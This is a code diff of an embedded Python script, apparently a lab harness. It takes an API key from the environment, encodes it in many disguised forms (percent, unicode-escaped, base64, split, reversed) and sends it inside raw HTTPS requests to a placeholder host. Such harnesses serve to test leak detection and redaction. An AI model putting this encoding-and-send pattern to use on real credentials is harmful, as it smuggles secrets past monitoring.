@@ -133,8 +133,10 @@ import base64, hashlib, json, os, socket, ssl, sys
 ph = os.environ['LAB_API_KEY']; half = len(ph) // 2
 b64 = lambda text: base64.b64encode(text.encode()).decode()
 forms = {
-    '@PHUPPER': ph.upper(), '@PHLOWER': ph.lower(), '@PH': ph, '@PCT': ''.join('%%%02x' % ord(c) for c in ph),
-    '@JSON': ''.join('\\u%04x' % ord(c) for c in ph), '@PASSWORD': b64('user:' + ph), '@USER': b64(ph + ':'), '@B64': b64(ph),
+    '@PHUPPER': ph.upper(), '@PHLOWER': ph.lower(), '@PH': ph,
+    '@PCT': ''.join('%%%02x' % ord(c) for c in ph),
+    '@JSON': ''.join('\\u%04x' % ord(c) for c in ph),
+    '@PASSWORD': b64('user:' + ph), '@USER': b64(ph + ':'), '@B64': b64(ph),
     '@FIRST': ph[:half], '@SECOND': ph[half:], '@REVERSED': ph[::-1],
 }
 def dressed(text):
@@ -148,7 +150,8 @@ for target, headers, body in json.load(sys.stdin):
     length = f'content-length: {len(body)}\r\n' if body else ''
     s = context.wrap_socket(socket.create_connection(('HOST', 443)), server_hostname='HOST')
     s.settimeout(20)
-    s.sendall(f'{method} {dressed(target)} HTTP/1.1\r\nhost: HOST\r\n{length}{head}\r\n'.encode() + body)
+    head = f'{method} {dressed(target)} HTTP/1.1\r\nhost: HOST\r\n{length}{head}\r\n'
+    s.sendall(head.encode() + body)
     print(s.recv(4096).split(b' ')[1].decode(), hashlib.sha256(body).hexdigest(), flush=True)
     s.close()
 "#;
